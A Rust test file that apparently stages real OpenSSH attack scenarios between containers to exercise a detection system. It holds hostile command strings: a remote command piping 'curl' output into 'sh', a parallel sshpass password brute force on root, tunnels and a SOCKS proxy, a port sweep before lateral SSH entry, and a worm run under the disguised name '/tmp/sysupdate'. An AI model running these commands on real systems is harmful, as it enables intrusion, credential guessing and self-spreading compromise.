//! Real OpenSSH between two containers: single commands, tunnels, attempts, and a program that moves on.

use super::siege::Siege;
use crate::keys::{KeyNeeds, KeyRehearsal, run};

const SSH: Siege = Siege {
    server: &["/opt/servers/sshd.sh"],
    ready: "nc -z 127.0.0.1 22",
    prepare: "/opt/servers/ssh-key.sh",
    attack: "",
};

/// Every one.
pub(super) const REHEARSALS: &[KeyRehearsal] = &[
    run(
        "proc.ssh_one_liner",
        "full-ssh-one-liner",
        "a command is run on another machine whose key is not checked",
        KeyNeeds::full(&["ssh", "sshd", "sshpass"]),
        |stage| {
            let attack = "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes \
                app@10.77.1.1 'id; uname -a; curl -s http://127.0.0.1:9/i.sh | sh'";
            Siege { attack, ..SSH }.play(stage)
        },
    ),
    run(
        "proc.ssh_tunnel",
        "full-ssh-tunnels",
        "ssh carries ports in both directions and serves as a proxy, and something goes through",
        KeyNeeds::full(&["ssh", "sshd", "sshpass", "curl", "nc"]),
        |stage| {
            let attack = "ssh -fN -L 2201:127.0.0.1:22 app@10.77.1.1 && nc -w 2 127.0.0.1 2201 </dev/null | grep -q SSH && \
                ssh -fN -R 2202:127.0.0.1:8000 app@10.77.1.1 && \
                ssh -fN -D 1080 app@10.77.1.1 && \
                { curl -s --max-time 2 --socks5 127.0.0.1:1080 http://127.0.0.1:22/ || true; }; \
                timeout 3 ssh -N -L 0.0.0.0:5432:10.77.1.1:22 app@10.77.1.1; true";
            Siege { attack, ..SSH }.play(stage)
        },
    ),
    run(
        "malware.brute_force_tool",
        "full-ssh-brute-force",
        "passwords are tried on an SSH server, one connection each",
        KeyNeeds::full(&["ssh", "sshd", "sshpass"]),
        |stage| {
            let attack = "seq 60 | xargs -P 16 -I{} sh -c 'timeout 10 sshpass -p wrong{} ssh -o StrictHostKeyChecking=no \
                -o NumberOfPasswordPrompts=1 -o PreferredAuthentications=password root@10.77.1.1 true || true' 2>/dev/null";
            Siege {
                prepare: "",
                attack,
                ..SSH
            }
            .play(stage)
        },
    ),
    run(
        "malware.worm",
        "full-ssh-worm",
        "a program finds an SSH server, copies itself there and has its copy run",
        KeyNeeds::full(&["ssh", "sshd", "scp", "cc", "nc"]),
        |stage| {
            let prepare = "/opt/servers/ssh-key.sh && cc -Os -o /tmp/sysupdate /opt/servers/worm.c";
            Siege {
                prepare,
                attack: "/tmp/sysupdate",
                ..SSH
            }
            .play(stage)
        },
    ),
    run(
        "net.internal_lateral_movement",
        "full-ssh-lateral",
        "administration ports of another machine are tried, then it is entered",
        KeyNeeds::full(&["ssh", "sshd", "nc"]),
        |stage| {
            let attack = "for port in 22 445 2375 2379 3389 5985 6379 10250; do nc -z -w 1 10.77.1.1 $port; done; \
                ssh -o BatchMode=yes app@10.77.1.1 hostname";
            Siege { attack, ..SSH }.play(stage)
        },
    ),
];
